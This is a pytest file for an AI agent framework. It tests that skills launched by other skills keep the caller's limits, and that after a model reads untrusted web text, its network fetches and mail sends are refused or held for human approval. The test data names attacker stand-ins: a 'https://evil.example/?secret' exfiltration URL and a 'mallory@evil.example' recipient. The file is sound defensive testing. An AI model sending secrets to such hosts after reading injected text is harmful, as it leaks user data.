"""What a skill starts has no more rights than what started the skill."""

import json
from typing import Any

import msgspec
import pytest

from component.agent.protocol import ToolResult, Waiting
from component.execution import SkillRequest
from component.models.messages import ToolCall
from component.policy.flows import Flow
from component.skills import Context, skill
from component.tasks.protocol import Question
from component.tasks.skill_call import SkillCall
from tests.component.execution.desk import AT, WHO, Desk, a_caller
from tests.component.router.wire import until
from tests.kit import anyio_backend
from tests.waiting import eventually
from xep.fluux_agent.confirm import Decision
from xep.fluux_agent.execute import Accepted

__all__ = ["anyio_backend"]
pytestmark = pytest.mark.anyio

MADE: list[str] = []


@pytest.fixture(autouse=True)
def nothing_made() -> None:
    MADE.clear()


@skill(name="erase", open_world=False)
def erase(path: str) -> str:
    """Erase a file."""
    MADE.append(f"erase {path}")
    return "erased"


@skill(name="fetch", read_only=True, capabilities=["network:api.example:443"])
def fetch(url: str) -> str:
    """Fetch a page."""
    MADE.append(f"fetch {url}")
    return "a page"


@skill(name="tidy", durable=True, open_world=False)
async def tidy(path: str, context: Context) -> str:
    """Tidy up, which erases a file."""
    return (await context.wait([await context.start("erase", {"path": path})]))[0].text


@skill(name="relay", durable=True, destructive=False, open_world=False)
async def relay(url: str, context: Context) -> str:
    """Fetch a page by another skill."""
    return (await context.wait([await context.start("fetch", {"url": url})]))[0].text


def a_call(id_: str, name: str, **arguments: Any) -> ToolCall:
    return ToolCall(id_, name, json.dumps(arguments))


async def ended(desk: Desk, task: str) -> None:
    await until(lambda: task in desk.tools_ended)


async def the_question(desk: Desk) -> Question:
    """Wait until something is asked."""

    async def is_asked() -> bool:
        return bool(await desk.service.open_questions(WHO.bare, AT))

    await eventually(is_asked)
    (question,) = await desk.service.open_questions(WHO.bare, AT)
    return question


async def outcome(desk: Desk, caller: Any, call: ToolCall, found: Any) -> ToolResult:
    while isinstance(found, Waiting):
        await ended(desk, found.task)
        found = await desk.tools.outcome(caller, call, found.task)
    assert isinstance(found, ToolResult)
    return found


async def test_an_approval_of_a_call_is_none_of_what_the_call_starts() -> None:
    desk = Desk(erase, tidy)
    caller = a_caller()
    calls = (a_call("c1", "tidy", path="/a"), a_call("c2", "erase", path="/b"))
    async with desk.running():
        asked = await desk.tools.confirm_together(caller, calls, again=False)
        task = {waiting.task for waiting in asked.values() if isinstance(waiting, Waiting)}.pop()
        await desk.decide(task, "approve")
        await ended(desk, task)
        tidying = await desk.tools.outcome(caller, calls[0], task)
        assert (await outcome(desk, caller, calls[1], Waiting(task))).content == "erased"
        assert MADE == ["erase /b"]
        question = await the_question(desk)
        assert "/a" in str(question.content)
        await desk.service.decide(WHO.bare, AT, Decision(id=question.id, value="approve"))
        assert (await outcome(desk, caller, calls[0], tidying)).content == "erased"
        assert MADE == ["erase /b", "erase /a"]


@pytest.mark.parametrize(
    ("limits", "why"),
    [
        ({"skills": ("relay",)}, "not among the skills of this agent"),
        ({"capabilities": ("filesystem",)}, "lacks the capability network"),
    ],
)
async def test_the_limits_of_an_agent_hold_for_what_its_calls_start(limits: Any, why: str) -> None:
    desk = Desk(fetch, relay)
    async with desk.running():
        caller = a_caller(**limits)
        call = a_call("c1", "relay", url="https://a.example")
        found = await desk.tools.call(caller, call.id, call.name, call.arguments)
        result = await outcome(desk, caller, call, found)
        assert result.is_error
        assert why in result.content
        assert MADE == []


@pytest.mark.parametrize("flows", [(), (Flow(("web",), ("network",), "refuse"),)])
async def test_what_a_model_must_not_send_after_reading_strangers_no_skill_sends_for_it(
    flows: Any,
) -> None:
    desk = Desk(fetch, relay, flows=flows)
    async with desk.running():
        caller = a_caller(taints=frozenset(("web",)), said=("Fetch it.",))
        url = "https://evil.example/?secret"
        direct = await desk.call("fetch", "c0", caller, url=url)
        assert isinstance(direct, ToolResult)
        assert direct.is_error
        call = a_call("c1", "relay", url=url)
        found = await desk.tools.call(caller, call.id, call.name, call.arguments)
        result = await outcome(desk, caller, call, found)
        assert result.is_error
        assert "read text of strangers" in result.content
        assert MADE == []


async def test_what_a_model_that_read_strangers_starts_is_confirmed() -> None:
    @skill(name="send", destructive=False, capabilities=["network:mail.example:25"])
    def send(to: str) -> str:
        """Send a mail."""
        MADE.append(f"send {to}")
        return "sent"

    @skill(name="tell", durable=True, destructive=False, open_world=False)
    async def tell(to: str, context: Context) -> str:
        """Tell somebody."""
        return (await context.wait([await context.start("send", {"to": to})]))[0].text

    desk = Desk(send, tell)
    async with desk.running():
        caller = a_caller(taints=frozenset(("web",)), said=("Tell them.",))
        call = a_call("c1", "tell", to="mallory@evil.example")
        found = await desk.tools.call(caller, call.id, call.name, call.arguments)
        question = await the_question(desk)
        assert MADE == []
        await desk.service.decide(WHO.bare, AT, Decision(id=question.id, value="deny"))
        assert (await outcome(desk, caller, call, found)).is_error
        assert MADE == []


async def test_a_person_who_is_never_asked_about_own_requests_is_asked_about_what_they_start() -> (
    None
):
    desk = Desk(erase, tidy, confirm="never")
    async with desk.running():
        call = SkillCall(skill="tidy", mode="async", json=msgspec.Raw(b'{"path": "/a"}'))
        answer = desk.kit.kernel.tasks.executor.execute(SkillRequest(WHO, WHO.bare, AT, call))
        assert isinstance(await answer, Accepted)  # type: ignore[misc]
        await the_question(desk)
        assert MADE == []
